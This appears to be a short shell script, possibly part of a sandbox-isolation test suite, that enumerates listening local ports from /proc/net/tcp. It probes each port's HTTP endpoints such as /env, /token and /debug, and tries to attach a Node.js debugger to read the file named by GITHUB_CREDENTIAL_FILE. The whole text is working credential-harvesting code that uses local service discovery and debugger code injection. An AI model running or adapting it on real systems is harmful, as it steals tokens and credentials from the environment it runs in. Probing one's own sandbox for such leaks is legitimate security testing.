. "$(dirname "$0")/lib.sh"
ports=$(awk '$4 == "0A" { split($2, address, ":"); print address[2] }' /proc/net/tcp /proc/net/tcp6 | sort -u)
for hex in $ports; do
  port=$((16#$hex))
  try "port $port" get "http://127.0.0.1:$port"{/,/json/list,/env,/debug,/token,/metrics,/readyz}
  try "debugger on port $port" inspect "$port" 'require("node:fs").readFileSync(process.env.GITHUB_CREDENTIAL_FILE, "utf8")'
done
tried
